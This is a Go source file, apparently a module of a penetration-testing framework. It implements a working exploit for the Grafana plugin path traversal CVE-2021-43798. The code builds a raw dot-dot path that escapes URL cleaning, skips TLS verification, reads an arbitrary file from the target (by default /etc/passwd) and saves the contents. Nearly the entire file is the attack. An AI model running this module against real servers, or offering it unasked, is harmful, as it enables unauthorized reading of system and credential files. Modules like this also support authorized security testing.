// Package grafana implements the cve.cve_2021_43798 module, a path
// traversal check against the Grafana plugin asset endpoint.
package grafana

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"github.com/arsenal-framework/arsenal/internal/app"
	"github.com/arsenal-framework/arsenal/internal/artifacts"
	"github.com/arsenal-framework/arsenal/internal/modules"
	"github.com/arsenal-framework/arsenal/internal/options"
)

const traversal = "/../../../../../../../../../.."

type Module struct {
	opts *options.Set
}

func New() modules.Module {
	return &Module{opts: options.MustNewSet(
		options.Spec{Name: "RHOST", Type: options.TypeString, Required: true, Description: "Grafana host or IP"},
		options.Spec{Name: "RPORT", Type: options.TypeInt, Default: "3000", Description: "Grafana port"},
		options.Spec{Name: "SCHEME", Type: options.TypeEnum, Enum: []string{"http", "https"}, Default: "http", Description: "Transport scheme"},
		options.Spec{Name: "PLUGIN", Type: options.TypeString, Required: true, Description: "Installed plugin id used for the traversal (e.g. alertlist)"},
		options.Spec{Name: "FILE", Type: options.TypeString, Default: "/etc/passwd", Description: "Absolute file path to read"},
		options.Spec{Name: "TIMEOUT", Type: options.TypeInt, Default: "5", Description: "Request timeout in seconds"},
		options.Spec{Name: "USER_AGENT", Type: options.TypeString, Default: "Mozilla/5.0 (compatible; arsenal)", Description: "User-Agent header"},
		options.Spec{Name: artifacts.OptionName, Type: options.TypeString, Description: "Write results to this JSON file (empty for workspace default)"},
	)}
}

func (m *Module) Name() string { return "grafana_plugin_traversal" }
func (m *Module) Description() string {
	return "Grafana 8.x plugin endpoint path traversal arbitrary file read (CVE-2021-43798)"
}
func (m *Module) Options() *options.Set { return m.opts }

func (m *Module) Execute(ctx app.Context) (modules.Outcome, error) {
	host := m.opts.String("RHOST", "")
	port := m.opts.Int("RPORT", 3000)
	scheme := m.opts.String("SCHEME", "http")
	plugin := m.opts.String("PLUGIN", "")
	file := m.opts.String("FILE", "/etc/passwd")
	timeout := time.Duration(m.opts.Int("TIMEOUT", 5)) * time.Second

	base := fmt.Sprintf("%s://%s/", scheme, net.JoinHostPort(host, strconv.Itoa(port)))
	// The traversal only works when the request line keeps its dot-dot
	// segments, so the raw path goes into Opaque after parsing the base
	// URL. Anything routed through Path would be cleaned en route.
	rawPath := fmt.Sprintf("/public/plugins/%s%s%s", plugin, traversal, file)

	client := &http.Client{
		Timeout: timeout,
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		},
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}

	req, err := http.NewRequestWithContext(ctx.Ctx, http.MethodGet, base, nil)
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("build request: %w", err)
	}
	req.URL.Opaque = rawPath
	req.Header.Set("User-Agent", m.opts.String("USER_AGENT", ""))

	resp, err := client.Do(req)
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("request failed: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()

	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("read response: %w", err)
	}
	content := string(body)

	vulnerable := resp.StatusCode == http.StatusOK &&
		!strings.Contains(content, "Plugin file not found") &&
		len(strings.TrimSpace(content)) > 0

	out := modules.Outcome{
		Success: vulnerable,
		Data: map[string]any{
			"target":  fmt.Sprintf("%s://%s:%d", scheme, host, port),
			"plugin":  plugin,
			"file":    file,
			"status":  resp.StatusCode,
			"preview": preview(content, 400),
		},
	}
	if vulnerable {
		out.Summary = fmt.Sprintf("%s is vulnerable, read %d bytes of %s", host, len(body), file)
		out.Data["content"] = content
	} else {
		out.Summary = fmt.Sprintf("%s does not appear vulnerable (status %d)", host, resp.StatusCode)
	}
	if path, werr := artifacts.MaybeWrite(ctx, m.opts, "cve.cve_2021_43798", out); werr != nil {
		return out, werr
	} else if path != "" {
		out.Data["output_file"] = path
	}
	return out, nil
}

func preview(s string, maxLen int) string {
	s = strings.ReplaceAll(s, "\n", " ")
	s = strings.ReplaceAll(s, "\r", "")
	if len(s) > maxLen {
		return s[:maxLen] + "..."
	}
	return s
}
